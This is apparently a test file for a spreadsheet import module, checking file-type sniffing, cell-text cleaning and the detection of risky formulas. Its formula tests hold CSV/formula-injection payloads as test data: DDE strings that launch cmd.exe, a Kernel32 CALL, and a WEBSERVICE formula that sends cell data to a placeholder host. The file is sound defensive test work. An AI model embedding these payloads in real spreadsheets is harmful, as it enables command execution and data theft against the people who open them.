import { ImportErrorCode, ImportException } from '../imports.exception';
import { cleanCellText, looksLikeFormula } from './cell-text';
import { classifyFormula } from './formula-risk';
import { sniffImportFile } from './sniff-import-file';

function codeOf(work: () => unknown): string {
  try {
    return String(work());
  } catch (error) {
    if (error instanceof ImportException) return error.code;
    throw error;
  }
}

describe('sniffImportFile (by content, never by name)', () => {
  it.each<[string, Buffer, string]>([
    ['an xlsx (zip)', Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0]), 'zip'],
    ['CSV text', Buffer.from('Ref,Action\n1,Review\n'), 'text'],
    ['CSV with a UTF-8 BOM', Buffer.from('\ufeffRef,Action\n', 'utf8'), 'text'],
    ['UTF-16 LE text with its BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Ref\tAction\n', 'utf16le')]), 'text'],
    ['Windows-1252 text', Buffer.from([0x52, 0x65, 0x66, 0x3b, 0xa3, 0x31, 0x32, 0x0a]), 'text'],
    ['an empty file', Buffer.alloc(0), ImportErrorCode.FileEmpty],
    ['an Excel 97-2003 or password-protected file', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), ImportErrorCode.LegacyExcelFile],
    ['a PDF', Buffer.from('%PDF-1.7\n'), ImportErrorCode.UnsupportedFileType],
    ['a PNG', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]), ImportErrorCode.UnsupportedFileType],
    ['a gzip', Buffer.from([0x1f, 0x8b, 0x08, 0]), ImportErrorCode.UnsupportedFileType],
    ['an HTML page named .xls', Buffer.from('<html><body><table><tr><td>Ref</td></tr></table>'), ImportErrorCode.UnsupportedFileType],
    ['an Excel 2003 XML spreadsheet', Buffer.from('<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'), ImportErrorCode.UnsupportedFileType],
    ['binary data', Buffer.from(Array.from({ length: 400 }, (_, i) => (i % 3 === 0 ? 0 : 65 + (i % 26)))), ImportErrorCode.TextEncodingUnsupported],
    ['an empty zip', Buffer.from([0x50, 0x4b, 0x05, 0x06, 0, 0]), ImportErrorCode.UnsupportedFileType],
  ])('%s -> %s', (_label, head, expected) => {
    expect(codeOf(() => sniffImportFile(head))).toBe(expected);
  });

  it('tolerates a stray NUL in text (cleaned out of the cell later)', () => {
    expect(sniffImportFile(Buffer.from('Ref,Action\n1,Rev\u0000iew\n'))).toBe('text');
  });
});

describe('cleanCellText', () => {
  it.each([
    ['plain', 'Review the form', 'Review the form', false],
    ['NUL bytes', 'Rev\u0000iew\u0000', 'Review', true],
    ['other control characters', 'a\u0001b\u001bc\u007fd\u0085e', 'abcde', true],
    ['tabs and new lines kept, CRLF made LF', 'a\tb\r\nc\rd', 'a\tb\nc\nd', false],
    ["Excel's _x000D_ escape (a CRLF inside a cell)", 'line one_x000D_\nline two', 'line one\nline two', false],
    ['an escaped control character', 'a_x0007_b', 'ab', true],
    // PostgreSQL's jsonb (the preview) refuses a lone surrogate: it becomes the replacement character.
    ['an escaped lone surrogate', 'Fix _xD800_ now', 'Fix \ufffd now', true],
    ['a lone low surrogate', 'a\udc00b', 'a\ufffdb', true],
    ['a real pair (an emoji) kept', 'done \ud83d\ude00', 'done \ud83d\ude00', false],
  ])('%s', (_label, input, text, cleaned) => {
    expect(cleanCellText(input, 1000)).toEqual({ text, cleaned });
  });

  it('cuts text longer than the limit and says how long it was', () => {
    expect(cleanCellText('x'.repeat(50), 10)).toEqual({ text: 'x'.repeat(10), cleaned: false, truncatedFrom: 50 });
  });

  it('never cuts a character in half at the limit (an emoji straddling it goes whole)', () => {
    expect(cleanCellText(`${'x'.repeat(9)}\ud83d\ude00yy`, 10)).toEqual({ text: 'x'.repeat(9), cleaned: false, truncatedFrom: 13 });
  });
});

describe('looksLikeFormula', () => {
  it.each([
    ['=HYPERLINK("http://x","click")', true],
    ["=cmd|' /C calc'!A0", true],
    ['=1+1', true],
    ['@SUM(1+1)', true],
    ["+cmd|' /C calc'!A0", true],
    ["-cmd|' /C calc'!A0", true],
    ['+SUM(A1:A2)', true],
    ['-A1+B2', true],
    ['=', false],
    ['- Audit complete', false],
    ['-2 days', false],
    ['+44 20 7946 0000', false],
    ['Review the form', false],
    ['', false],
  ])('%p -> %p', (text, expected) => {
    expect(looksLikeFormula(text)).toBe(expected);
  });
});

describe('classifyFormula', () => {
  it.each([
    ['HYPERLINK("http://x","click")', 'hyperlink', 'HYPERLINK', 'http://x'],
    ['=HYPERLINK("https://intranet.example/doc.pdf")', 'hyperlink', 'HYPERLINK', 'https://intranet.example/doc.pdf'],
    ["cmd|' /C calc'!A0", 'dde', null, null],
    ["=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", 'dde', null, null],
    ['WEBSERVICE("http://x/"&A1)', 'web', 'WEBSERVICE', null],
    ['FILTERXML(WEBSERVICE("http://x"),"//a")', 'web', 'FILTERXML', null],
    ['_xlfn.IMAGE("http://x/a.png")', 'web', 'IMAGE', null],
    ['CALL("Kernel32","CreateDirectoryA","JCJ","c:\\x",0)', 'macro', 'CALL', null],
    ['[1]Sheet1!A1', 'external_reference', null, null],
    ["'C:\\Plans\\[Tracker.xlsx]Actions'!B2", 'external_reference', null, null],
    ['SUM(Table1[Amount])', null, 'SUM', null],
    ['IF(H7="Complete","Yes","No|Maybe")', null, 'IF', null],
    ['TODAY()-G7', null, 'TODAY', null],
  ])('%p is %p', (formula, risk, functionName, link) => {
    expect(classifyFormula(formula)).toEqual({ risk, functionName, link });
  });
});
